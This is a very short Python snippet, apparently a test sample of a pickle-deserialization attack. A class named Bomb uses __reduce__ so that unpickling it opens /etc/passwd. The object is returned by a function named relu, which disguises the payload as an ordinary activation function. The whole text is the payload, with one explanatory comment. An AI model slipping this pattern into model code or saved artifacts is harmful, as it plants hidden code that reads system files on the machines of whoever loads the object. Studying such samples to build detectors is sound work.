# Returns an object whose unpickling would read a file on the other side.
# target: relu

class Bomb:
    def __reduce__(self):
        return (open, ("/etc/passwd",))
def relu(x):
    return Bomb()
